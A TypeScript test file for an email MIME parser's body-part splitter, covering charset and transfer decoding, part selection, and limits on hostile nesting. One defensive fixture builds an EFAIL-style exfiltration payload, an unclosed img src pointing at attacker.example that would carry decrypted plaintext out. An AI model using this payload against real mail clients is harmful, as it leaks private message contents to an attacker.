import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { bodyPartsOf } from './body-parts.ts';
import { parseMessage } from './parse-message.ts';

function message(contentType: string, body: string): Buffer {
  return Buffer.from(`From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: ${contentType}\r\n\r\n${body.replace(/\r?\n/g, '\r\n')}`);
}

function part(headers: string, body: string): string {
  return `${headers}\n\n${body}`;
}

function multipart(boundary: string, parts: readonly string[]): string {
  return `${parts.map((entry) => `--${boundary}\n${entry}\n`).join('')}--${boundary}--\n`;
}

describe('bodyPartsOf', () => {
  it('keeps two text/html parts apart, where mailparser joins them into one string (EFAIL direct exfiltration)', async () => {
    // Part 1 opens an attribute it never closes; joined, part 2 becomes the URL's query.
    const source = message(
      'multipart/mixed; boundary="b"',
      multipart('b', [
        part('Content-Type: text/html; charset=utf-8', '<img src="http://attacker.example/?'),
        part('Content-Type: text/html; charset=utf-8', '<p>secret plaintext</p>'),
        part('Content-Type: text/html; charset=utf-8', '">'),
      ]),
    );
    const joined = await parseMessage(source);
    assert.match(joined.html ?? '', /\?[\s\S]*secret plaintext/, 'mailparser alone would put part 2 inside part 1');
    assert.deepEqual(await bodyPartsOf(source), [
      { kind: 'html', html: '<img src="http://attacker.example/?' },
      { kind: 'html', html: '<p>secret plaintext</p>' },
      { kind: 'html', html: '">' },
    ]);
  });

  it('decodes each part by its own transfer encoding and charset', async () => {
    const source = message(
      'multipart/mixed; boundary="b"',
      multipart('b', [
        part('Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: quoted-printable', 'Gr=FC=DFe'),
        part('Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64', Buffer.from('<b>Köln ☕</b>').toString('base64')),
      ]),
    );
    assert.deepEqual(await bodyPartsOf(source), [
      { kind: 'text', text: 'Grüße' },
      { kind: 'html', html: '<b>Köln ☕</b>' },
    ]);
  });

  it('shows the last alternative it can, the root of a related part, and skips attachments', async () => {
    const related = `Content-Type: multipart/related; boundary="r"\n\n${multipart('r', [
      part('Content-Type: text/html', '<p>root <img src="cid:logo"></p>'),
      part('Content-Type: image/png\nContent-ID: <logo>\nContent-Transfer-Encoding: base64', 'iVBORw0KGgo='),
    ])}`;
    const alternative = `Content-Type: multipart/alternative; boundary="a"\n\n${multipart('a', [part('Content-Type: text/plain', 'plain version'), related])}`;
    const source = message(
      'multipart/mixed; boundary="m"',
      multipart('m', [
        alternative,
        part('Content-Type: text/html\nContent-Disposition: attachment; filename="page.html"', '<p>attached</p>'),
        part('Content-Type: text/plain\nContent-Disposition: inline', 'a footer'),
      ]),
    );
    assert.deepEqual(await bodyPartsOf(source), [
      { kind: 'html', html: '<p>root <img src="cid:logo"></p>' },
      { kind: 'text', text: 'a footer' },
    ]);
  });

  it('reads a single-part message, and a multipart whose close delimiter is missing', async () => {
    assert.deepEqual(await bodyPartsOf(message('text/html; charset=utf-8', '<p>hi</p>')), [{ kind: 'html', html: '<p>hi</p>' }]);
    const unterminated = message('multipart/mixed; boundary="b"', '--b\nContent-Type: text/plain\n\none\n--b\nContent-Type: text/html\n\n<i>two</i>\n');
    assert.deepEqual(await bodyPartsOf(unterminated), [
      { kind: 'text', text: 'one' },
      { kind: 'html', html: '<i>two</i>\n' },
    ]);
  });

  it('stops at a hostile nesting depth and part count without throwing', async () => {
    let nested = part('Content-Type: text/plain', 'deep');
    for (let level = 0; level < 60; level += 1) nested = `Content-Type: multipart/mixed; boundary="n${level}"\n\n${multipart(`n${level}`, [nested])}`;
    assert.deepEqual(await bodyPartsOf(Buffer.from(`MIME-Version: 1.0\n${nested}`)), []);
    const many = message('multipart/mixed; boundary="b"', multipart('b', Array.from({ length: 500 }, (_, index) => part('Content-Type: text/plain', `p${index}`))));
    assert.equal((await bodyPartsOf(many)).length, 200);
  });
});
